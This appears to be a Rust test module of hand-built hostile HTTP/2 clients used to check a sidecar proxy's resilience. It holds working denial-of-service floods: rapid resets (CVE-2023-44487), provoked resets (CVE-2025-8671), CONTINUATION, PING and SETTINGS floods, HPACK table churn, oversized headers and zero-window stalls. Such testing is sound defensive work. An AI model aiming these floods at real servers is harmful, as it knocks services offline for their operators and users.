//! Clients of HTTP/2, most of them written frame by frame.

use std::future;

use bytes::Bytes;
use futures_util::future::join_all;
use h2::client::SendRequest;
use http::Request;
use testkit::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, GET_HEALTH, HEADERS, PING, PREFACE, WINDOW_UPDATE,
    block, data, frame, headers, reset, settings,
};
use tokio::net::TcpStream;

use crate::attack::Client;

/// The number of concurrent streams on one connection: as many as the sidecar allows with one target.
pub const STREAMS: u32 = 8;

/// The number of streams in one flood.
const FLOOD: u32 = 20_000;

const PRIORITY: u8 = 2;
const UNKNOWN: u8 = 0xfe;

/// The id of a setting.
const HEADER_TABLE_SIZE: u16 = 1;
/// The id of a setting.
const INITIAL_WINDOW_SIZE: u16 = 4;

/// The size of a large header list as RFC 9113, 6.5.2 counts it, just below the sidecar's limit.
const HEADER_LIST: usize = 7 << 10;

/// Returns the first bytes of a connection.
pub fn start() -> Vec<u8> {
    [PREFACE, &settings(&[])].concat()
}

/// Returns the ids of the first streams of a connection.
pub fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|n| 2 * n + 1)
}

/// Sends one request, then stays idle.
pub fn idle() -> Client {
    Client::sending([start(), headers(END_STREAM, 1, &GET_HEALTH)].concat())
}

/// Requests pages with a window of zero.
pub fn without_window() -> Client {
    let start = [PREFACE, &settings(&[(INITIAL_WINDOW_SIZE, 0)])].concat();
    let ask = |(stream, path)| headers(END_STREAM, stream, &request("GET", path));
    let pages = streams(STREAMS).zip(["/statusz", "/metrics"].into_iter().cycle());
    Client::sending([start, pages.flat_map(ask).collect()].concat())
}

/// Opens streams and resets them at once (CVE-2023-44487).
pub fn rapid_resets() -> Client {
    flood_of(|stream| [headers(END_STREAM, stream, &GET_HEALTH), reset(stream, 8)].concat())
}

/// Opens streams and makes the sidecar reset them (CVE-2025-8671), in three ways.
pub fn made_resets() -> Client {
    let open = |flags, stream| headers(flags, stream, &GET_HEALTH);
    let update = |stream, by: u32| frame(WINDOW_UPDATE, 0, stream, &by.to_be_bytes());
    Client::each([
        flood_of(move |stream| [open(END_STREAM, stream), update(stream, 0)].concat()),
        flood_of(move |stream| [open(END_STREAM, stream), update(stream, 0x7fff_ffff)].concat()),
        flood_of(move |stream| [open(END_STREAM, stream), data(0, stream, b"more")].concat()),
    ])
}

/// Sends these frames for each of many streams, then PINGs.
fn flood_of(frames: impl Fn(u32) -> Vec<u8>) -> Client {
    let all: Vec<u8> = streams(FLOOD).flat_map(frames).collect();
    both([start(), all].concat(), frame(PING, 0, 0, &[7; 8]))
}

/// Floods with `again`; half of the clients read the answers.
fn both(start: Vec<u8>, again: Vec<u8>) -> Client {
    Client::each([
        Client::pouring(start.clone(), again.clone()),
        Client::pouring_blindly(start, again),
    ])
}

pub fn pings() -> Client {
    both(start(), frame(PING, 0, 0, &[7; 8]))
}

/// Floods with SETTINGS that change the window and the header table.
pub fn many_settings() -> Client {
    let sizes =
        [70_000, 0].map(|size| settings(&[(INITIAL_WINDOW_SIZE, size), (HEADER_TABLE_SIZE, size)]));
    both(start(), sizes.concat())
}

/// Sends a header block without an end, of empty frames or of fields.
pub fn continuations() -> Client {
    let start = [start(), frame(HEADERS, 0, 1, &block(&GET_HEALTH))].concat();
    let fields = block(&[("x-filler", "a")]).repeat(1_000);
    Client::each([
        Client::pouring(start.clone(), frame(CONTINUATION, 0, 1, &[])),
        Client::pouring(start, frame(CONTINUATION, 0, 1, &fields)),
    ])
}

/// Floods with frames that change nothing.
pub fn idle_frames() -> Client {
    Client::each([
        both(start(), frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())),
        both(start(), frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16])),
        both(start(), frame(UNKNOWN, 0, 0, &[0; 64])),
    ])
}

/// Holds requests open whose header lists are large: many small fields, or few large ones.
pub fn large_headers() -> Client {
    let small = HEADER_LIST / (32 + 4 + 1);
    let names: Vec<String> = (0..small).map(|n| format!("x{n:03}")).collect();
    let value = "v".repeat(100);
    let large = HEADER_LIST / (32 + 4 + value.len());
    let with = |fields: &[String], value: &str| {
        let fields = fields.iter().map(|name| (name.as_str(), value));
        let fields: Vec<_> = request("POST", "/livez")
            .into_iter()
            .chain(fields)
            .collect();
        let open = |stream| headers(0, stream, &fields);
        Client::sending([start(), streams(STREAMS).flat_map(open).collect()].concat())
    };
    Client::each([with(&names, "v"), with(&names[..large], &value)])
}

/// Sends header blocks that fill the HPACK table, and others that resize it all the time.
pub fn header_tables() -> Client {
    let get = block(&GET_HEALTH);
    // A literal of 0x40 enters the table.
    let enter: Vec<u8> = (0..100_u8)
        .flat_map(|n| [&[0x40, 2, b'x', b'a' + n % 26, 100], &[b'v'; 100][..]].concat())
        .collect();
    let enter = [get.clone(), enter].concat();
    // To 0, and to 4096.
    let resize = [[0x20, 0x3f, 0xe1, 0x1f].repeat(2_000), get].concat();
    let flood = |block: Vec<u8>| {
        let ask = move |stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
        Client::pouring(
            [start(), streams(500).flat_map(ask).collect()].concat(),
            frame(PING, 0, 0, &[7; 8]),
        )
    };
    Client::each([flood(enter), flood(resize)])
}

/// Sends a body again and again, as fast as the sidecar opens its windows.
pub fn uploading(
    path: &'static str,
    headers: &'static [(&str, &str)],
    body: impl Into<Bytes>,
) -> Client {
    let body = body.into();
    Client::new(move |stream, _| {
        let body = body.clone();
        async move {
            let _ = upload(stream, path, headers, body).await;
        }
    })
}

async fn upload(
    stream: TcpStream,
    path: &str,
    headers: &[(&str, &str)],
    body: Bytes,
) -> Result<(), h2::Error> {
    let (requests, connection) = h2::client::handshake(stream).await?;
    let uploads = (0..STREAMS).map(|_| async {
        while post(requests.clone(), path, headers, body.clone())
            .await
            .is_ok()
        {}
    });
    tokio::select! {
        ended = connection => ended,
        _ = join_all(uploads) => Ok(()),
    }
}

async fn post(
    requests: SendRequest<Bytes>,
    path: &str,
    headers: &[(&str, &str)],
    mut body: Bytes,
) -> Result<(), h2::Error> {
    let mut request = Request::post(format!("http://sidecar{path}"));
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let (response, mut sending) = requests
        .ready()
        .await?
        .send_request(request.body(()).unwrap(), false)?;
    while !body.is_empty() {
        sending.reserve_capacity(body.len());
        let Some(capacity) = future::poll_fn(|cx| sending.poll_capacity(cx)).await else {
            break;
        };
        let part = body.split_to(capacity?.min(body.len()));
        sending.send_data(part, body.is_empty())?;
    }
    response.await.map(drop)
}

/// Returns the pseudo-header fields of a request.
fn request<'a>(method: &'a str, path: &'a str) -> [(&'a str, &'a str); 4] {
    [
        (":method", method),
        (":scheme", "http"),
        (":authority", "sidecar"),
        (":path", path),
    ]
}
